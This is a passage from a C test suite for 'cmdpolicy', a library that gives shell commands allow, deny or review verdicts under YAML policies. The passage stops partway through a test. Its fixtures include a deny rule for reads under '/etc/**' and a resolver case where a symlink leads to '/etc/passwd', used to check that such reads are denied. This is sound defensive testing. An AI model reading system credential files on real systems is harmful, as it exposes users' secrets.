/* The public header's promises, function by function. */
#include <pthread.h>
#include <stdint.h>

#include "test_decide_fixture.h"
#include "test_random.h"

static const char small_policy[] =
    "cmdpolicy: 1\n"
    "commands: {t: {options: {-o: write}, operands: [read*]}, sh: {syntax: posix, options: {-c: flag}, operands: [value*], "
    "cases: [{when: {options: -c}, operands: [script, rest?]}]}}\n"
    "rules: {t: {verdict: allow, reason: fine}, t no: {verdict: deny, reason: never, suggest: t yes, risk: high}, sh: by-effects}\n"
    "effects: {read: {'/etc/**': deny, default: allow}, write: review}\n";

static cmdpolicy_policy *build_small(void) {
    cmdpolicy_builder *b = cmdpolicy_builder_new();
    cmdpolicy_policy *policy = NULL;
    ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy,
                                                sizeof small_policy - 1),
                     CMDPOLICY_OK);
    ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
    cmdpolicy_builder_free(b);
    return policy;
}

static int is(cmdpolicy_string s, const char *text) {
    return s.size == strlen(text) && memcmp(s.data, text, s.size) == 0;
}

START_TEST(nothing_given)
    {
        cmdpolicy_policy *policy = NULL;
        cmdpolicy_string s;
        cmdpolicy_error e = {.struct_size = sizeof e};
        cmdpolicy_builder_free(NULL);
        cmdpolicy_policy_free(NULL);
        cmdpolicy_request_free(NULL);
        cmdpolicy_request_reset(NULL);
        cmdpolicy_decision_free(NULL);
        ck_assert_ptr_null(cmdpolicy_policy_ref(NULL));
        ck_assert_int_eq(cmdpolicy_builder_add_builtin(NULL, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_builder_add_yaml(NULL, 0, "x", "", 0), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_builder_add_image(NULL, 0, "x", "", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_builder_add_image_static(NULL, 0, "x", "", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_builder_add_file(NULL, 0, "x"), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_builder_set_limit(NULL, "depth", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_builder_build(NULL, &policy), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_uint_eq(cmdpolicy_builder_error_count(NULL), 0);
        ck_assert_int_eq(cmdpolicy_builder_error(NULL, 0, &e), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_policy_prepare(NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_policy_digest(NULL, &s), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_shell(NULL, 0, "x", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_argv(NULL, 1, (const char *const[]){"x"}, NULL),
                         CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_cwd(NULL, "/", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_home(NULL, "/", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_add_workspace(NULL, "/", 1, 0), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_variable(NULL, "A", "x", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_fact(NULL, "sandbox", "none", 4), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_add_path(NULL, "/", 1, "/", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_resolver(NULL, NULL, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_add_directory(NULL, "/", 1, CMDPOLICY_NAMES_PLAIN),
                         CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_looker(NULL, NULL, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_request_set_label(NULL, "a", "b", 1), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_decision_verdict(NULL), CMDPOLICY_DENY);
        ck_assert_int_eq(cmdpolicy_decision_status(NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_uint_eq(cmdpolicy_decision_reason_count(NULL), 0);
        ck_assert_uint_eq(cmdpolicy_decision_call_count(NULL), 0);
        ck_assert_uint_eq(cmdpolicy_decision_effect_count(NULL), 0);
        ck_assert_int_eq(cmdpolicy_decision_source(NULL, 0, &s), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_decision_render(NULL, "json", &s), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_str_eq(cmdpolicy_status_name(CMDPOLICY_OK), "ok");
        for (cmdpolicy_status status = 5; status > -20; status--)
            ck_assert_ptr_nonnull(cmdpolicy_status_name(status));
        ck_assert_str_eq(cmdpolicy_verdict_name(CMDPOLICY_ALLOW), "allow");
        ck_assert_str_eq(cmdpolicy_verdict_name(CMDPOLICY_REVIEW), "review");
        for (cmdpolicy_verdict verdict = -5; verdict < 9; verdict++)
            if (verdict != CMDPOLICY_ALLOW && verdict != CMDPOLICY_REVIEW)
                ck_assert_str_eq(cmdpolicy_verdict_name(verdict), "deny");
        ck_assert_str_eq(cmdpolicy_layer_name(CMDPOLICY_LAYER_WORKSPACE), "workspace");
        ck_assert_str_eq(cmdpolicy_layer_name(CMDPOLICY_LAYER_BUILTIN), "builtin");
        ck_assert_str_eq(cmdpolicy_layer_name(99), "unknown");
        ck_assert_uint_eq(cmdpolicy_version(), (uint32_t)CMDPOLICY_VERSION_MAJOR << 16 |
                                                   CMDPOLICY_VERSION_MINOR << 8 | CMDPOLICY_VERSION_PATCH);
    }
END_TEST

/* NULL, an invalid request: a decision that denies, says so, and has nothing to free. */
START_TEST(static_decisions)
    {
        cmdpolicy_policy *policy = build_small();
        cmdpolicy_request *empty = cmdpolicy_request_new(policy), *invalid = cmdpolicy_request_new(policy);
        ck_assert_int_eq(cmdpolicy_request_set_shell(invalid, CMDPOLICY_DIALECT_BASH, "t", 1), CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_request_set_cwd(invalid, "relative", 8), CMDPOLICY_ERR_ARGUMENT);
        cmdpolicy_decision *all[] = {
            cmdpolicy_check(NULL, NULL),           cmdpolicy_check(policy, NULL),
            cmdpolicy_check(NULL, empty),          cmdpolicy_check(policy, empty),
            cmdpolicy_check(policy, invalid),      cmdpolicy_check_shell(NULL, "t", 1),
            cmdpolicy_check_shell(policy, NULL, 3)};
        for (size_t i = 0; i < sizeof all / sizeof all[0]; i++) {
            cmdpolicy_reason r = {.struct_size = sizeof r};
            cmdpolicy_call c = {.struct_size = sizeof c};
            cmdpolicy_effect e = {.struct_size = sizeof e};
            cmdpolicy_word w = {.struct_size = sizeof w};
            cmdpolicy_string s;
            ck_assert_ptr_nonnull(all[i]);
            ck_assert_int_eq(cmdpolicy_decision_verdict(all[i]), CMDPOLICY_DENY);
            ck_assert_int_eq(cmdpolicy_decision_status(all[i]), CMDPOLICY_ERR_ARGUMENT);
            ck_assert_uint_eq(cmdpolicy_decision_reason_count(all[i]), 1);
            ck_assert_int_eq(cmdpolicy_decision_reason(all[i], 0, &r), CMDPOLICY_OK);
            ck_assert(is(r.code, "error") && is(r.message, "wrong argument") && r.call == -1 &&
                      r.verdict == CMDPOLICY_DENY);
            ck_assert_int_eq(cmdpolicy_decision_reason(all[i], 1, &r), CMDPOLICY_ERR_RANGE);
            ck_assert_int_eq(cmdpolicy_decision_call(all[i], 0, &c), CMDPOLICY_ERR_RANGE);
            ck_assert_int_eq(cmdpolicy_decision_word(all[i], 0, 0, &w), CMDPOLICY_ERR_RANGE);
            ck_assert_int_eq(cmdpolicy_decision_effect(all[i], 0, &e), CMDPOLICY_ERR_RANGE);
            ck_assert_int_eq(cmdpolicy_decision_source(all[i], 0, &s), CMDPOLICY_ERR_RANGE);
            ck_assert_int_eq(cmdpolicy_decision_render(all[i], "json", &s), CMDPOLICY_OK);
            ck_assert_int_eq(cmdpolicy_decision_render(all[i], "text", &s), CMDPOLICY_OK);
            ck_assert_int_eq(cmdpolicy_decision_render(all[i], "html", &s), CMDPOLICY_ERR_ARGUMENT);
            cmdpolicy_decision_free(all[i]);
            cmdpolicy_decision_free(all[i]); /* nothing is freed */
        }
        cmdpolicy_request_free(empty);
        cmdpolicy_request_free(invalid);
        cmdpolicy_policy_free(policy);
    }
END_TEST

/* Each setter that fails makes the request invalid until it is reset. */
START_TEST(invalid_requests)
    {
        cmdpolicy_policy *policy = build_small();
        cmdpolicy_request *r = cmdpolicy_request_new(policy);
        for (int i = 0; i < 15; i++) {
            cmdpolicy_status status = CMDPOLICY_OK;
            ck_assert_int_eq(cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t", 1), CMDPOLICY_OK);
            switch (i) {
            case 0: status = cmdpolicy_request_set_shell(r, 99, "t", 1); break;
            case 1: status = cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, NULL, 1); break;
            case 2: status = cmdpolicy_request_set_argv(r, 0, (const char *const[]){"t"}, NULL); break;
            case 3: status = cmdpolicy_request_set_argv(r, 2, (const char *const[]){"t", NULL}, NULL); break;
            case 4: status = cmdpolicy_request_set_cwd(r, "", 0); break;
            case 5: status = cmdpolicy_request_set_cwd(r, "/a\0b", 4); break;
            case 6: status = cmdpolicy_request_set_home(r, "~", 1); break;
            case 7: status = cmdpolicy_request_add_workspace(r, "/", 1, 7); break;
            case 8: status = cmdpolicy_request_set_variable(r, "", "x", 1); break;
            case 9: status = cmdpolicy_request_set_fact(r, "weather", "fine", 4); break;
            case 10: status = cmdpolicy_request_set_fact(r, "sandbox", "sand", 4); break;
            case 11: status = cmdpolicy_request_set_fact(r, "case", NULL, 0); break;
            case 12: status = cmdpolicy_request_add_path(r, "/a", 2, "b", 1); break;
            case 13: status = cmdpolicy_request_set_label(r, NULL, "x", 1); break;
            default: status = cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t", SIZE_MAX / 2);
            }
            ck_assert_msg(status == CMDPOLICY_ERR_ARGUMENT, "%d: %s", i, cmdpolicy_status_name(status));
            ck_assert_int_eq(cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t", 1),
                             CMDPOLICY_OK); /* heals nothing */
            cmdpolicy_decision *d = cmdpolicy_check(policy, r);
            ck_assert_int_eq(cmdpolicy_decision_status(d), CMDPOLICY_ERR_ARGUMENT);
            cmdpolicy_decision_free(d);
            cmdpolicy_request_reset(r);
            ck_assert_int_eq(cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t", 1), CMDPOLICY_OK);
            d = cmdpolicy_check(policy, r);
            ck_assert_int_eq(cmdpolicy_decision_verdict(d), CMDPOLICY_ALLOW);
            cmdpolicy_decision_free(d);
        }
        cmdpolicy_request_free(r);
        cmdpolicy_policy_free(policy);
    }
END_TEST

/* A caller with an older header has smaller structs: nothing is written behind them. With a newer one they are larger. */
START_TEST(struct_sizes)
    {
        cmdpolicy_policy *policy = build_small();
        cmdpolicy_decision *d = decide_here(policy, "t no; t -o x");
        union {
            cmdpolicy_reason reason;
            cmdpolicy_call call;
            cmdpolicy_word word;
            cmdpolicy_effect effect;
            uint32_t struct_size;
            unsigned char bytes[512];
        } u;
        for (int what = 0; what < 4; what++) {
            const size_t full = what == 0   ? sizeof u.reason
                                : what == 1 ? sizeof u.call
                                : what == 2 ? sizeof u.word
                                            : sizeof u.effect;
            for (uint32_t size = 0; size <= full + 64; size++) {
                memset(&u, 0xa5, sizeof u);
                u.struct_size = size;
                cmdpolicy_status status = what == 0   ? cmdpolicy_decision_reason(d, 0, &u.reason)
                                          : what == 1 ? cmdpolicy_decision_call(d, 0, &u.call)
                                          : what == 2 ? cmdpolicy_decision_word(d, 0, 0, &u.word)
                                                      : cmdpolicy_decision_effect(d, 0, &u.effect);
                ck_assert_int_eq(status, size < sizeof(uint32_t) ? CMDPOLICY_ERR_ARGUMENT : CMDPOLICY_OK);
                ck_assert_uint_eq(u.struct_size, size);
                for (size_t i = size < full ? size : full; i < sizeof u; i++)
                    ck_assert_msg(i < 4 || u.bytes[i] == 0xa5, "%d: byte %zu of %u", what, i, size);
                if (status == CMDPOLICY_OK && size >= 8 && what < 2)
                    ck_assert_int_eq(what ? u.call.verdict : u.reason.verdict, CMDPOLICY_DENY);
            }
        }
        ck_assert_int_eq(cmdpolicy_decision_reason(d, 0, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_decision_call(d, 0, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_decision_word(d, 0, 0, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_decision_effect(d, 0, NULL), CMDPOLICY_ERR_ARGUMENT);
        cmdpolicy_word w = {.struct_size = sizeof w};
        cmdpolicy_string s;
        ck_assert_int_eq(cmdpolicy_decision_word(d, 0, 2, &w), CMDPOLICY_ERR_RANGE);
        ck_assert_int_eq(cmdpolicy_decision_word(d, 2, 0, &w), CMDPOLICY_ERR_RANGE);
        ck_assert_int_eq(cmdpolicy_decision_source(d, 1, &s), CMDPOLICY_ERR_RANGE);
        ck_assert_int_eq(cmdpolicy_decision_source(d, 0, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_decision_render(d, "html", &s), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(cmdpolicy_decision_render(d, NULL, &s), CMDPOLICY_ERR_ARGUMENT);
        cmdpolicy_decision_free(d);
        cmdpolicy_policy_free(policy);
    }
END_TEST

START_TEST(builder_errors)
    {
        cmdpolicy_builder *b = cmdpolicy_builder_new();
        cmdpolicy_policy *policy = (cmdpolicy_policy *)(uintptr_t)8;
        static const char wrong[] = "cmdpolicy: 1\nrulse: {t: allow}\nrules: {t: perhaps}\n";
        ck_assert_int_eq(cmdpolicy_builder_build(b, NULL), CMDPOLICY_ERR_ARGUMENT);
        ck_assert_int_eq(
            cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "wrong.yaml", wrong, sizeof wrong - 1),
            CMDPOLICY_ERR_POLICY);
        ck_assert_int_eq(cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy,
                                                    sizeof small_policy - 1),
                         CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_ERR_POLICY);
        ck_assert_ptr_null(policy);
        ck_assert_uint_eq(cmdpolicy_builder_error_count(b), 2);
        for (uint32_t size = 0; size <= sizeof(cmdpolicy_error) + 16; size++) {
            union {
                cmdpolicy_error error;
                unsigned char bytes[sizeof(cmdpolicy_error) + 64];
            } u;
            memset(&u, 0xa5, sizeof u);
            u.error.struct_size = size;
            cmdpolicy_status status = cmdpolicy_builder_error(b, 0, &u.error);
            ck_assert_int_eq(status, size < sizeof(uint32_t) ? CMDPOLICY_ERR_ARGUMENT : CMDPOLICY_OK);
            for (size_t i = size < sizeof u.error ? size : sizeof u.error; i < sizeof u; i++)
                ck_assert(i < 4 || u.bytes[i] == 0xa5);
            if (size >= sizeof u.error)
                ck_assert(u.error.line == 2 && u.error.column == 1 && is(u.error.code, "unknown-key") &&
                          is(u.error.file, "wrong.yaml") && u.error.layer == CMDPOLICY_LAYER_USER &&
                          !u.error.is_warning && u.error.status == CMDPOLICY_ERR_POLICY);
        }
        cmdpolicy_error e = {.struct_size = sizeof e};
        ck_assert_int_eq(cmdpolicy_builder_error(b, 2, &e), CMDPOLICY_ERR_RANGE);
        cmdpolicy_builder_free(b);

        static const struct {
            int what;
            cmdpolicy_status status;
            const char *code;
        } cases[] = {{0, CMDPOLICY_ERR_ARGUMENT, ""},
                     {1, CMDPOLICY_ERR_ARGUMENT, ""},
                     {2, CMDPOLICY_ERR_ARGUMENT, "unknown-profile"},
                     {3, CMDPOLICY_ERR_IO, "unreadable"},
                     {4, CMDPOLICY_ERR_POLICY, "image-damaged"},
                     {5, CMDPOLICY_ERR_IO, "unreadable"},
                     {6, CMDPOLICY_ERR_ARGUMENT, ""}};
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
            cmdpolicy_status status = CMDPOLICY_OK;
            b = cmdpolicy_builder_new();
            switch (cases[i].what) {
            case 0:
                status = cmdpolicy_builder_add_yaml(b, 5, "x", small_policy, sizeof small_policy - 1);
                break;
            case 1: status = cmdpolicy_builder_set_limit(b, "speed", 1); break;
            case 2: status = cmdpolicy_builder_add_builtin(b, "core"); break;
            case 3:
                status = cmdpolicy_builder_add_file(b, CMDPOLICY_LAYER_USER, "/nowhere/at/all.yaml");
                break;
            case 4: status = cmdpolicy_builder_add_image(b, CMDPOLICY_LAYER_USER, "x", "cmdpolicy", 9); break;
            case 5: status = cmdpolicy_builder_add_file(b, CMDPOLICY_LAYER_USER, "/"); break;
            default: status = cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "x", NULL, 4);
            }
            ck_assert_msg(status == cases[i].status, "%zu: %s", i, cmdpolicy_status_name(status));
            ck_assert_int_eq(cmdpolicy_builder_error(b, 0, &e),
                             *cases[i].code ? CMDPOLICY_OK : CMDPOLICY_ERR_RANGE);
            if (*cases[i].code)
                ck_assert(is(e.code, cases[i].code) && e.status == cases[i].status);
            ck_assert_int_ne(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK); /* there is no half policy */
            ck_assert_ptr_null(policy);
            cmdpolicy_builder_free(b);
        }
    }
END_TEST

/* An empty policy is one, too: everything is unknown. */
START_TEST(empty_policy)
    {
        cmdpolicy_builder *b = cmdpolicy_builder_new();
        cmdpolicy_policy *policy = NULL, *second = NULL;
        ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_builder_build(b, &second),
                         CMDPOLICY_ERR_ARGUMENT); /* a builder makes one */
        ck_assert_ptr_null(second);
        cmdpolicy_builder_free(b);
        ck_assert_int_eq(verdict_here(policy, "ls"), CMDPOLICY_REVIEW);
        ck_assert_int_eq(verdict_here(policy, ""), CMDPOLICY_ALLOW); /* nothing runs */
        ck_assert_ptr_eq(cmdpolicy_policy_ref(policy), policy);
        cmdpolicy_policy_free(policy);
        ck_assert_int_eq(verdict_here(policy, "ls"), CMDPOLICY_REVIEW);
        cmdpolicy_policy_free(policy);
    }
END_TEST

/* Everything that the decision shows is its own: neither the policy nor the request nor what was passed is needed. */
START_TEST(decision_outlives_all)
    {
        cmdpolicy_policy *policy = build_small();
        cmdpolicy_request *r = cmdpolicy_request_new(policy);
        char *text = strdup("t \"$V\" \"$PWD\" ~/x; sh -c \"t no $V\"; t /etc/$V");
        char *value = strdup("value");
        cmdpolicy_request_set_cwd(r, "/work", 5);
        cmdpolicy_request_set_home(r, "/home/u", 7);
        cmdpolicy_request_set_variable(r, "V", value, 5);
        cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, text, strlen(text));
        memset(text, 'x', strlen(text));
        memset(value, 'y', 5);
        free(text);
        free(value);
        cmdpolicy_decision *d = cmdpolicy_check(policy, r);
        cmdpolicy_request_free(r);
        cmdpolicy_policy_free(policy);
        ck_assert_int_eq(cmdpolicy_decision_verdict(d), CMDPOLICY_DENY);
        cmdpolicy_string json, again;
        ck_assert_int_eq(cmdpolicy_decision_render(d, "json", &json), CMDPOLICY_OK);
        ck_assert_int_eq(cmdpolicy_decision_render(d, "json", &again), CMDPOLICY_OK);
        ck_assert_ptr_eq(json.data, again.data); /* made on first use and kept */
        ck_assert(strstr(json.data, "\"value\"") && strstr(json.data, "/home/u/x") &&
                  strstr(json.data, "/etc/value") && strstr(json.data, "never") &&
                  strstr(json.data, "small.yaml"));
        cmdpolicy_word w = {.struct_size = sizeof w};
        ck_assert_int_eq(cmdpolicy_decision_word(d, 0, 1, &w), CMDPOLICY_OK);
        ck_assert(is(w.value, "value") && w.exact == 1);
        cmdpolicy_call c = {.struct_size = sizeof c};
        ck_assert_int_eq(cmdpolicy_decision_call(d, 2, &c), CMDPOLICY_OK);
        ck_assert(is(c.program, "t") && c.parent == 1 && is(c.domain, "local") &&
                  c.verdict == CMDPOLICY_DENY);
        cmdpolicy_decision_free(d);
    }
END_TEST

/* A request may be asked again, with another subject: facts stay until it is reset. */
START_TEST(requests_are_reused)
    {
        cmdpolicy_policy *policy = build_small();
        cmdpolicy_request *r = cmdpolicy_request_new(policy);
        cmdpolicy_request_set_cwd(r, "/etc", 4);
        static const struct {
            const char *text;
            cmdpolicy_verdict verdict;
        } cases[] = {{"t x", CMDPOLICY_DENY}, {"t /x", CMDPOLICY_ALLOW}, {"t x", CMDPOLICY_DENY}};
        for (size_t i = 0; i < 3; i++) {
            cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, cases[i].text, strlen(cases[i].text));
            cmdpolicy_decision *d = cmdpolicy_check(policy, r);
            ck_assert_int_eq(cmdpolicy_decision_verdict(d), cases[i].verdict);
            cmdpolicy_decision_free(d);
        }
        static const char *const argv[] = {"t", "a b", "'q'", ""};
        cmdpolicy_request_set_argv(r, 4, argv, NULL);
        cmdpolicy_decision *d = cmdpolicy_check(policy, r);
        cmdpolicy_string source;
        ck_assert_int_eq(cmdpolicy_decision_verdict(d), CMDPOLICY_DENY);
        ck_assert_int_eq(cmdpolicy_decision_source(d, 0, &source), CMDPOLICY_OK);
        ck_assert_msg(is(source, "t 'a b' ''\\''q'\\''' ''"), "%.*s", (int)source.size, source.data);
        cmdpolicy_decision_free(d);
        cmdpolicy_request_set_argv(r, 2, argv, (const size_t[]){1, 1});
        d = cmdpolicy_check(policy, r);
        cmdpolicy_word w = {.struct_size = sizeof w};
        ck_assert_int_eq(cmdpolicy_decision_word(d, 0, 1, &w), CMDPOLICY_OK);
        ck_assert(is(w.value, "a") && w.span.begin == 2 && w.span.end == 3);
        cmdpolicy_decision_free(d);
        cmdpolicy_request_reset(r);
        cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, "t x", 3);
        d = cmdpolicy_check(policy, r);
        ck_assert_int_eq(cmdpolicy_decision_verdict(d),
                         CMDPOLICY_REVIEW); /* it may be in /etc: the directory isn't known any more */
        cmdpolicy_decision_free(d);
        cmdpolicy_request_free(r);
        cmdpolicy_policy_free(policy);
    }
END_TEST

/* Each limit, reached: deny, code "limit", the limit named. */
START_TEST(limits)
    {
        static const struct {
            const char *name;
            uint64_t most;
            const char *text;
        } cases[] = {{"input-bytes", 3, "t xyz"},
                     {"steps", 5, "t a b c d e f g h i j k"},
                     {"depth", 4, "( ( ( ( ( ( ( t ) ) ) ) ) ) )"},
                     {"nodes", 3, "t; t; t; t; t"},
                     {"heredocs", 1, "t <<A <<B <<C\nA\nB\nC\n"},
                     {"brace-words", 4, "t {1..9}"},
                     {"reparse-bytes", 3, "sh -c 't a b c'"},
                     {"calls", 2, "t; t; t"},
                     {"memory", 4000, "t {1..900}"},
                     {"resolves", 0, "t x"}};
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
            for (int by_yaml = 0; by_yaml < 3; by_yaml++) {
                cmdpolicy_builder *b = cmdpolicy_builder_new();
                cmdpolicy_policy *policy = NULL;
                cmdpolicy_builder_add_yaml(b, CMDPOLICY_LAYER_USER, "small.yaml", small_policy,
                                           sizeof small_policy - 1);
                char text[200];
                int n = snprintf(text, sizeof text, "cmdpolicy: 1\ndefaults: {%s: %llu}\n", cases[i].name,
                                 (unsigned long long)cases[i].most);
                if (by_yaml && cases[i].most > 0)
                    ck_assert_int_eq(cmdpolicy_builder_add_yaml(b,
                                                                by_yaml == 1 ? CMDPOLICY_LAYER_USER
                                                                             : CMDPOLICY_LAYER_REQUIREMENTS,
                                                                "limit.yaml", text, (size_t)n),
                                     CMDPOLICY_OK);
                else
                    ck_assert_int_eq(cmdpolicy_builder_set_limit(b, cases[i].name, cases[i].most),
                                     CMDPOLICY_OK);
                ck_assert_int_eq(cmdpolicy_builder_build(b, &policy), CMDPOLICY_OK);
                cmdpolicy_builder_free(b);
                cmdpolicy_request *r = cmdpolicy_request_new(policy);
                cmdpolicy_request_set_cwd(r, "/work", 5);
                cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, cases[i].text, strlen(cases[i].text));
                extern int64_t never_resolves(void *, const char *, size_t, char *, size_t);
                cmdpolicy_request_set_resolver(r, never_resolves, NULL);
                cmdpolicy_decision *d = cmdpolicy_check(policy, r);
                ck_assert_int_eq(cmdpolicy_decision_status(d), CMDPOLICY_OK);
                ck_assert_msg(cmdpolicy_decision_verdict(d) == CMDPOLICY_DENY, "%s: %s", cases[i].name,
                              verdict_name(cmdpolicy_decision_verdict(d)));
                int found = 0;
                cmdpolicy_reason reason = {.struct_size = sizeof reason};
                for (size_t k = 0; cmdpolicy_decision_reason(d, k, &reason) == CMDPOLICY_OK; k++) {
                    char message[300];
                    snprintf(message, sizeof message, "%.*s", (int)reason.message.size, reason.message.data);
                    found |= is(reason.code, "limit") && strstr(message, cases[i].name) != NULL &&
                             reason.verdict == CMDPOLICY_DENY;
                }
                if (!found)
                    print_decision(d);
                ck_assert_msg(found, "%s", cases[i].name);
                cmdpolicy_string json;
                ck_assert_int_eq(cmdpolicy_decision_render(d, "json", &json), CMDPOLICY_OK);
                cmdpolicy_decision_free(d);
                cmdpolicy_request_free(r);
                cmdpolicy_policy_free(policy);
            }
    }
END_TEST
int64_t never_resolves(void *user, const char *path, size_t size, char *buffer, size_t room);
int64_t never_resolves(void *user, const char *path, size_t size, char *room_for_it, size_t room) {
    (void)user, (void)path, (void)size, (void)room_for_it, (void)room;
    return -1;
}

/* What was denied before the limit stays denied where the limit's own verdict is a review. */
START_TEST(a_limit_lifts_nothing)
    {
        const char *layers[LAYERS] = {
            [BUILTIN] =
                "commands: {t: {operands: [value*]}}\nrules: {t: allow, t no: deny}\ndefaults: {calls: {most: 3, verdict: review}}\n"};
        cmdpolicy_policy *policy = policy_of_layers(layers);
        ck_assert_int_eq(verdict_here(policy, "t; t; t"), CMDPOLICY_ALLOW);
        ck_assert_int_eq(verdict_here(policy, "t; t; t; t"), CMDPOLICY_REVIEW);
        ck_assert_int_eq(verdict_here(policy, "t no; t; t; t; t"), CMDPOLICY_DENY);
        cmdpolicy_policy_free(policy);
    }
END_TEST

typedef struct asked {
    char paths[64][64];
    int count;
} asked;
static int64_t resolve(void *user, const char *path, size_t size, char *room_for_it, size_t room) {
    asked *a = user;
    ck_assert_int_lt(a->count, 64);
    snprintf(a->paths[a->count++], 64, "%.*s", (int)size, path);
    if (size == 10 && memcmp(path, "/work/link", 10) == 0 && room >= 11) {
        memcpy(room_for_it, "/etc/passwd", 11);
        return 11;
    }
    return size == 8 ? INT64_MAX : -1; /* longer than the room: not known */
}

START_TEST(resolver)
    {
        cmdpolicy_policy *policy = build_small();
        cmdpolicy_request *r = cmdpolicy_request_new(policy);
        asked a = {.count = 0};
        static const char text[] = "t link x; t x ./link ../work/x /work/long.; t link";
        cmdpolicy_request_set_cwd(r, "/work", 5);
        cmdpolicy_request_set_resolver(r, resolve, &a);
        cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, text, sizeof text - 1);
        cmdpolicy_decision *d = cmdpolicy_check(policy, r);
        ck_assert_int_eq(cmdpolicy_decision_verdict(d), CMDPOLICY_DENY); /* the link leads to /etc */
        ck_assert_int_gt(a.count, 1);
        for (int i = 0; i < a.count; i++)
            for (int k = 0; k < i; k++)
                ck_assert_msg(strcmp(a.paths[i], a.paths[k]) != 0, "%s is asked for twice", a.paths[i]);
        cmdpolicy_decision_free(d);
        a.count = 0;
        cmdpolicy_request_set_resolver(r, NULL, NULL);
        cmdpolicy_request_add_path(r, "/work/link", 10, "/tmp/ok", 7);
        d = cmdpolicy_check(policy, r);
        ck_assert_int_eq(a.count, 0);
        ck_assert_int_eq(cmdpolicy_decision_verdict(d), CMDPOLICY_ALLOW);
        cmdpolicy_decision_free(d);
        cmdpolicy_request_free(r);
        cmdpolicy_policy_free(policy);
    }
END_TEST

static cmdpolicy_names look(void *user, const char *path, size_t size) {
    asked *a = user;
    ck_assert_int_lt(a->count, 64);
    snprintf(a->paths[a->count++], 64, "%.*s", (int)size, path);
    return size >= 4 && memcmp(path + size - 4, "/bad", 4) == 0 ? CMDPOLICY_NAMES_UNKNOWN
                                                                : CMDPOLICY_NAMES_PLAIN;
}

static cmdpolicy_verdict looked(const cmdpolicy_policy *policy, asked *a, const char *text) {
    cmdpolicy_request *r = cmdpolicy_request_new(policy);
    a->count = 0;
    cmdpolicy_request_set_cwd(r, "/work", 5);
    cmdpolicy_request_add_workspace(r, "/work", 5, CMDPOLICY_TRUSTED);
    cmdpolicy_request_set_looker(r, look, a);
    cmdpolicy_request_set_shell(r, CMDPOLICY_DIALECT_BASH, text, strlen(text));
    cmdpolicy_decision *d = cmdpolicy_check(policy, r);
    cmdpolicy_verdict verdict = cmdpolicy_decision_verdict(d);
    cmdpolicy_decision_free(d);
    cmdpolicy_request_free(r);
    return verdict;
}

START_TEST(looker)
    {
        static const char yaml[] = "cmdpolicy: 1\ncommands:\n"
                                   "  cd: {operands: [chdir?], does: chdir}\n"
                                   "  t: {options: {-o: write}, operands: [read*]}\n"
                                   "  w: {operands: [write*]}\n"
                                   "rules: {t|cd|w|unknown: by-effects}\n"
